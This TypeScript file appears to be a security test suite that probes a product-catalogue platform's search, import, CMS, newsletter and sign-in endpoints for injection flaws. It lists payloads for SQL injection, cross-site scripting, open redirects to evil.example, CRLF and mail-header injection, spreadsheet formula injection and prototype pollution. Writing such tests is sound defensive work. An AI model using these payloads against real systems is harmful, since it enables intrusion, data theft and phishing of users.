import type { Attack, Proof, Step } from '../attacking/Attack.ts';
import { calculates } from '../attacking/formulaCells.ts';
import { heads, otherThan, says, shows, succeeded } from '../attacking/proofs.ts';
import { as, get, identity, page, post, put, written } from '../attacking/steps.ts';

const e = encodeURIComponent;
const a = (
  title: string,
  steps: readonly Step[],
  through: readonly Proof[],
  who?: string,
  more: Partial<Attack> = {},
): Attack => ({ title, ...(who && { who }), steps, through, ...more });

const sqlTexts = [
  "' or '1'='1",
  "'; drop table product; --",
  "') union select null,null,null --",
  "\\'; select pg_sleep(9); --",
  '$$;select 1;$$',
  "x' || (select email from user_right limit 1) || '",
];
const inQuery = (url: (text: string) => string) => sqlTexts.map((text) => get(url(e(text))));
/** Was everything but read as a value? Then there is one hit at most. */
const finds = says(/"(?:productSid|sid)":"(?:f1|f2|a1|alpenfenster|andere)"/);

const markup = '"><script>alert(1)</script><img src=x onerror=alert(1)>';
const runs = [shows('<script>alert(1)'), shows('<img src=x onerror')];
const titled = (title: string, description = title) => ({
  orgaInfo: { sid: 'alpenfenster' },
  sid: 'f2',
  productInfo: {
    articleNumber: 'A-f2',
    title: { de: title },
    subTitle: { de: title },
    description: { de: description },
  },
  categories: { mainCategory: { sid: 'fenster' } },
});
const store = (title: string) => as('supplier', put('/import/product/CH/alpenfenster/f2', titled(title)));
const shown = [
  page('ch', '/de/product/alpenfenster/f2'),
  page('ch', '/de/orga/alpenfenster'),
  page('ch', '/de/category/fenster'),
  page('ch', '/de/shortlist?product=alpenfenster/f2'),
  page('ch', '/de'),
];
const signInPage =
  '/idp/signIn?client_id=local-web-client&redirect_uri=http%3A%2F%2Fch.localhost%3A3000%2Fauthgrant-redirect&response_type=code&scope=openid&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&lang=de';
const changes = { mayChange: true } as const;
const article = (section: object) => ({
  url: 'angriff',
  title: { de: 'x' },
  state: 'published',
  sections: [{ contentType: 'text', position: 'left', layout: 'full', ...section }],
});
const block = (html: string): Step[] => [
  as(
    'editor',
    put('/import/cms-article/angriff', article({ content: { de: html } }), { 'if-none-match': '*' }),
  ),
  as('editor', put('/import/cms-article/angriff', article({ content: { de: html } }))),
  page('ch', '/de/angriff'),
  get('/de/cms-article/angriff'),
];
const inArticle = (title: string, html: string, proof: RegExp) =>
  a(title, block(html), [says(proof)], undefined, changes);
const link = (to: string) =>
  as(
    'supplier',
    post('/import/orga-info/CH', {
      orgaSid: 'alpenfenster',
      language: 'de',
      headline: 'x',
      links: [{ label: 'x', link: to }],
    }),
  );
const isLink = (title: string, to: readonly string[]) =>
  a(
    title,
    to.map(link),
    [(answers) => (answers.some(({ status }) => status < 300) ? 'a link was stored' : undefined)],
    undefined,
    changes,
  );

export const injection: readonly Attack[] = [
  a(
    'SQL in the search',
    inQuery((text) => `/CH/search?text=${text}`),
    [finds],
  ),
  a(
    'SQL in suggestions',
    inQuery((text) => `/CH/suggest?lang=de&text=${text}`),
    [finds],
  ),
  a(
    'SQL in a category of a list',
    inQuery((text) => `/CH/products?category=${text}`),
    [finds],
  ),
  a(
    'SQL in a company or a line of a list',
    [...inQuery((text) => `/CH/products?orga=${text}`), ...inQuery((text) => `/CH/products?line=${text}`)],
    [finds],
  ),
  a(
    'SQL in the attributes of a list',
    [
      ...inQuery((text) => `/CH/products?attributes=${text}`),
      ...inQuery((text) => `/CH/products?attributes=${text}*x`),
      ...inQuery((text) => `/CH/products?attributes=x*${text}`),
    ],
    [],
  ),
  a(
    'SQL in an address',
    ["x'--", "x' or '1'='1", 'x;select'].flatMap((text) => [
      get(`/CH/orga/${e(text)}`),
      get(`/CH/product/${e(text)}/${e(text)}`),
      get(`/CH/category/${e(text)}`),
    ]),
    [succeeded],
  ),
  a(
    'SQL in the entry for programs',
    inQuery((text) => `/v1/external/entry?orga=${text}&articleNumber=${text}`),
    [succeeded],
  ),
  a(
    'SQL in the letters of companies',
    inQuery((text) => `/CH/orga?text=${text}`),
    [finds],
  ),
  a(
    'SQL in a filter',
    sqlTexts.map((text) => get(`/import/product/CH?filter=${e(JSON.stringify({ orgaSid: text }))}`)),
    [finds],
    'admin',
  ),
  a(
    'SQL as the name of a filter',
    sqlTexts.map((text) => get(`/import/product/CH?filter=${e(JSON.stringify({ [text]: 'x' }))}`)),
    [succeeded],
    'supplier',
  ),
  a(
    'SQL as the name of an order',
    ['sid; drop table orga', 'sid desc, (select 1)', '"sid"', 'orga_sid', 't.version', '1', 'random()'].map(
      (name) => get(`/import/product/CH?sort=${e(JSON.stringify([name, 'ASC']))}`),
    ),
    [succeeded],
    'supplier',
  ),
  a(
    'SQL in the direction of an order',
    ['ASC; select 1', 'asc', 'ASC NULLS LAST'].map((way) =>
      get(`/import/product/CH?sort=${e(JSON.stringify(['sid', way]))}`),
    ),
    [succeeded],
    'supplier',
  ),
  a(
    'SQL in a list of a filter',
    [
      get(
        `/import/product/CH?filter=${e(JSON.stringify({ orgaSid: ["a','b", 'andere', '{andere}', 'andere"}'] }))}`,
      ),
    ],
    [says('"a1"')],
    'supplier',
  ),
  a(
    'SQL in the title that is filtered by',
    sqlTexts.map((text) => get(`/import/product/CH?filter=${e(JSON.stringify({ title: text }))}`)),
    [finds],
    'supplier',
  ),
  a(
    'SQL in the key of the record of changes',
    [
      get(`/import/audit?entity=orga&platform=CH&key=${e(JSON.stringify(["alpenfenster' or 1=1 --"]))}`),
      get(`/import/audit?entity=${e("orga' or '1'='1")}&platform=CH&key=["alpenfenster"]`),
    ],
    [says('before')],
    'supplier',
  ),
  a(
    'SQL in the search of people',
    inQuery((text) => `/import/user-right/search?text=${text}`),
    [says('"sub":"')],
    'rights',
  ),
  a(
    'SQL in a user name',
    sqlTexts
      .map((text) =>
        identity('InitiateAuth', {
          AuthFlow: 'USER_PASSWORD_AUTH',
          ClientId: 'local-web-client',
          AuthParameters: { USERNAME: text, PASSWORD: text },
        }),
      )
      .slice(0, 2),
    [succeeded],
  ),
  a(
    'SQL in the body of a record',
    [
      as('supplier', put('/import/product/CH/alpenfenster/f2', titled(sqlTexts.join(' ')))),
      get('/CH/product/alpenfenster/f2'),
    ],
    [otherThan(200)],
    undefined,
    changes,
  ),
  a(
    'SQL in the pixel',
    sqlTexts.map((text) => get(`/pixel.gif?event=page&orga=${e(text)}&product=${e(text)}&path=${e(text)}`)),
    [],
  ),
  a(
    'patterns of LIKE in the search of people',
    [get('/import/user-right/search?text=%25'), get('/import/user-right/search?text=_')],
    [says('"sub":"')],
    'rights',
  ),
  a(
    'patterns of LIKE and words of a full-text search',
    ['%25', '_____', '%5C%25', "'zz':*", '!zz', '!zz & !yy', '(', '<->', ':*'].flatMap((text) => [
      get(`/CH/search?text=${text}`),
      get(`/CH/suggest?lang=de&text=${text}`),
      get(`/CH/orga?text=${text}`),
    ]),
    [says('"f1"')],
  ),
  a(
    'a JSON path in a filter',
    [
      get(`/import/product/CH?filter=${e(JSON.stringify({ 'title.de': 'x' }))}`),
      get(`/import/product/CH?filter=${e(JSON.stringify({ "title->>'de'": 'x' }))}`),
      get(`/import/product/CH?filter=${e('{"__proto__":{"orgaSid":"andere"}}')}`),
    ],
    [succeeded],
    'supplier',
  ),
  a(
    'a zero, a half letter and a control in every way in',
    [
      get('/CH/search?text=ab%00cd'),
      get('/CH/orga/%00'),
      get('/CH/products?attributes=a*%00'),
      get('/pixel.gif?event=page&orga=%00'),
      written('POST', '/newsletter', '{"email":"a\\u0000@b.example","language":"de","platform":"CH"}'),
      get('/v1/external/entry?orga=%ED%A0%80'),
      page('ch', '/de/search?text=%00'),
    ],
    [],
  ),
  a('markup in a title of a product', [store(markup), ...shown], runs, undefined, changes),
  a(
    'the end of a script in a title',
    [store('</script><script>alert(1)</script><!--<script>'), ...shown],
    runs,
    undefined,
    changes,
  ),
  a(
    'line separators of scripts in a title',
    [store('a\u2028b</script\u2029><script>alert(1)</script>'), ...shown],
    runs,
    undefined,
    changes,
  ),
  a(
    'a comment that opens in a title',
    [store('<!--<script>alert(1)</script>'), ...shown],
    [...runs, shows(/<!--<script/)],
    undefined,
    changes,
  ),
  a(
    'an expression of a template in a title',
    [store('{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'), ...shown],
    [shows(/\b49\b\s+49/)],
    undefined,
    changes,
  ),
  a(
    'a title that is a replacement pattern',
    [store("$& $` $' $1 $$"), ...shown.slice(0, 2)],
    [
      otherThan(200),
      (answers) =>
        answers.slice(1).every(({ body }) => (body.match(/<html/g) ?? []).length <= 1)
          ? undefined
          : 'the page stands in itself',
    ],
    undefined,
    changes,
  ),
  a(
    'a title that ends a structured datum',
    [store('"}]}</script><script>alert(1)</script>{"@type":"x"'), ...shown],
    runs,
    undefined,
    changes,
  ),
  a(
    'letters that turn the direction in a name',
    [as('supplier', put('/import/product/CH/alpenfenster/f2', titled('a\u0000b')))],
    [succeeded],
  ),
  a(
    'markup in a name of a line',
    [
      as(
        'supplier',
        post('/import/product-line/CH', {
          orgaSid: 'alpenfenster',
          sid: 'xss',
          title: { de: markup },
          description: { de: markup },
        }),
      ),
      page('ch', '/de/orga/alpenfenster?line=xss'),
    ],
    runs,
    undefined,
    changes,
  ),
  a(
    'markup in the infos of a company',
    [
      as(
        'supplier',
        post('/import/orga-info/CH', {
          orgaSid: 'alpenfenster',
          language: 'de',
          headline: markup,
          text: markup,
          contact: { name: markup, phone: markup },
        }),
      ),
      page('ch', '/de/orga/alpenfenster'),
    ],
    runs,
    undefined,
    changes,
  ),
  a(
    'markup in an advertisement',
    [
      as(
        'editor',
        post('/import/advertisement/CH', {
          orgaSid: 'alpenfenster',
          sid: 'xss',
          title: { de: markup },
          text: { de: markup },
          link: '/de',
          from: '2026-01-01',
          weight: 100,
          categories: ['root_category'],
        }),
      ),
      page('ch', '/de'),
    ],
    runs,
    undefined,
    changes,
  ),
  a(
    'markup in a search',
    [
      page('ch', `/de/search?text=${e(markup)}`),
      page('ch', `/de/search?text=fenster&attributes=${e(markup)}`),
    ],
    runs,
  ),
  a(
    'markup in a search of the API',
    [get(`/CH/search?text=${e(markup)}`), get(`/CH/suggest?lang=de&text=${e(markup)}`)],
    [heads('content-type', /html/)],
  ),
  a(
    'markup in an address that is not found',
    [
      page('ch', `/de/${e(markup)}`),
      page('ch', `/de/orga/${e(markup)}`),
      page('ch', `/de/product/x/${e(markup)}`),
      page('ch', `/${markup.replaceAll(' ', '%20')}`),
    ],
    runs,
  ),
  a(
    'markup in a refusal',
    [
      get(`/${e(markup)}/start`),
      get(`/CH/products?sort=${e(markup)}`),
      get(`/CH/start?${e(markup)}=1`),
      post('/import/orga-info/CH', { [markup]: 1 }),
    ],
    [heads('content-type', /html/)],
  ),
  a(
    'markup in headers that come back',
    [
      page('ch', '/de', {
        'accept-language': markup,
        referer: markup,
        'user-agent': markup,
        cookie: `language=${e(markup)}`,
      }),
    ],
    runs,
  ),
  a(
    'markup in a host that comes back',
    [{ url: '/de', headers: { host: `${e('"><script>alert(1)</script>')}.localhost` } }],
    runs,
  ),
  a(
    'markup in the hosted pages',
    [
      {
        url: `${signInPage}&state=${e(markup)}&notice=${e(markup)}&user_name=${e(markup)}`,
        headers: { host: 'ch.localhost:3000' },
      },
      {
        url: `${signInPage.replace('signIn', 'forgotPassword')}&state=s&user_name=${e(markup)}`,
        headers: { host: 'ch.localhost:3000' },
      },
      { url: `/idp/oauth2/authorize?client_id=x&state=${e(markup)}`, headers: { host: 'ch.localhost:3000' } },
    ],
    runs,
  ),
  inArticle('a script in an article', '<p>x</p><script>alert(1)</script>', /<script>alert/),
  inArticle(
    'an event in an article',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p><svg/onload=alert(1)>',
    /on(click|mouseover|load)=/,
  ),
  inArticle(
    'a link of a script in an article',
    '<a href="javascript:alert(1)">a</a><a href=" java\tscript:alert(1)">b</a><a href="data:text/html,x">c</a><a href="&#106;avascript:alert(1)">d</a>',
    /<a [^>]*href="?\s*(java|data:|&#)/i,
  ),
  inArticle(
    'markup that changes when it is parsed twice',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    /<img[^>]*onerror/,
  ),
  inArticle(
    'a style and a form in an article',
    '<style>body{display:none}</style><form action="https://evil.example"><input name=password></form><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><iframe src="https://evil.example"></iframe>',
    /evil\.example|display:none/,
  ),
  inArticle(
    'a noscript and a template in an article',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>',
    /onerror=alert|<script>alert/,
  ),
  a(
    'a picture of an article that lies elsewhere',
    block('')
      .slice(0, 1)
      .map(() =>
        as(
          'editor',
          put(
            '/import/cms-article/angriff2',
            {
              ...article({ contentType: 'image', content: { de: 'https://evil.example/x.png' } }),
              url: 'angriff2',
            },
            { 'if-none-match': '*' },
          ),
        ),
      ),
    [succeeded],
  ),
  a(
    'a video of an article that lies elsewhere',
    [
      'https://evil.example/x',
      'https://www.youtube.com.evil.example/embed/x',
      'https://www.youtube-nocookie.com@evil.example/embed/x',
      'javascript:alert(1)',
    ].map((to) =>
      as(
        'editor',
        put(
          '/import/cms-article/angriff3',
          { ...article({ contentType: 'video', content: { de: to } }), url: 'angriff3' },
          { 'if-none-match': '*' },
        ),
      ),
    ),
    [(answers) => (answers.some(({ status }) => status < 300) ? 'it was stored' : undefined)],
  ),
  isLink('a link that is a script', [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
  ]),
  isLink('a link that looks like a path and leads away', [
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    '/.//\\evil.example',
    '/..//evil.example\\',
  ]),
  isLink('a link to this machine or a file', [
    'file:///etc/passwd',
    'ftp://evil.example',
    'http://evil.example',
    'blob:x',
    'ws://x',
  ]),
  isLink('a link with a user before the host', [
    'https://ch.localhost:3000@evil.example/',
    'https://user:word@evil.example/',
  ]),
  a(
    'line ends in the headers of an import',
    [
      {
        ...written(
          'POST',
          '/import/product/CH?orgaSid=alpenfenster&dryRun=true',
          JSON.stringify([{ ...titled('x'), sid: 'x\r\nX-Injected: 1' }]),
        ),
        who: 'supplier',
      },
    ],
    [],
  ),
  a(
    'line ends in the name of a file',
    [
      {
        method: 'POST',
        url: '/api/import/product/CH?orgaSid=alpenfenster&dryRun=true',
        who: 'supplier',
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
        body: '--b\r\nContent-Disposition: form-data; name="file"; filename="a%0d%0aX-Injected: 1.json"\r\nContent-Type: application/json\r\n\r\n[]\r\n--b--\r\n',
      },
    ],
    [],
  ),
  a(
    'line ends in a language that comes back',
    [get('/CH/start?lang=de%0d%0aX-Injected:1'), page('ch', '/de?lang=fr%0d%0aX-Injected:1')],
    [],
  ),
  a(
    'line ends in an address of a mail',
    [
      'a@b.example\r\nBcc: c@d.example',
      'a@b.example\nSubject: x',
      'a@b.example%0aBcc:c@d.example',
      '"a\r\nBcc: x"@b.example',
      'a@b.example, c@d.example',
      'a@b.example;c@d.example',
      '<a@b.example>',
    ].map((email) => post('/newsletter', { email, language: 'de', platform: 'CH' })),
    [(answers) => (answers.some(({ status }) => status < 300) ? 'a mail was sent' : undefined)],
  ),
  a(
    'line ends in an address of a new account',
    [
      identity('SignUp', {
        ClientId: 'local-web-client',
        Username: 'neu\r\nBcc: x',
        Password: 'Baustein-2026',
        UserAttributes: [{ Name: 'email', Value: 'a@b.example\r\nBcc: c@d.example' }],
      }),
    ],
    [succeeded],
  ),
  a(
    'formulas in a title, as a workbook',
    [
      store('=1+1'),
      as('supplier', get('/import/product/xlsx/CH/alpenfenster/de')),
      get('/CH/shortlist.xlsx?product=alpenfenster/f2'),
      store('=HYPERLINK("https://evil.example")'),
      get('/CH/shortlist.xlsx?product=alpenfenster/f2'),
    ],
    [calculates, otherThan(200)],
    undefined,
    changes,
  ),
  a(
    'formulas by other signs, as a workbook',
    ['@SUM(1)', '+1+1', '-1+1', '\t=1+1', '|calc', '＝1+1'].flatMap((title) => [
      store(title),
      get('/CH/shortlist.xlsx?product=alpenfenster/f2'),
    ]),
    [calculates],
    undefined,
    changes,
  ),
  a(
    'XML in a title, as a workbook',
    [
      store(']]></t></is></c><c><f>1+1</f></c>'),
      as('supplier', get('/import/product/xlsx/CH/alpenfenster/de')),
    ],
    [calculates, otherThan(200)],
    undefined,
    changes,
  ),
  a(
    'names of objects in JSON',
    [
      '{"orgaSid":"alpenfenster","language":"it","headline":"x","__proto__":{"a":1}}',
      '{"orgaSid":"alpenfenster","language":"it","headline":"x","constructor":{"prototype":{"a":1}}}',
      '{"orgaSid":"alpenfenster","language":"it","headline":"x","contact":{"__proto__":{"email":"x"}}}',
    ].map((text) => as('supplier', written('POST', '/import/orga-info/CH', text))),
    [
      (answers) => (answers.some(({ status }) => status < 300) ? 'it was stored' : undefined),
      () => (Reflect.get({}, 'a') === undefined ? undefined : 'all objects were changed'),
    ],
  ),
];
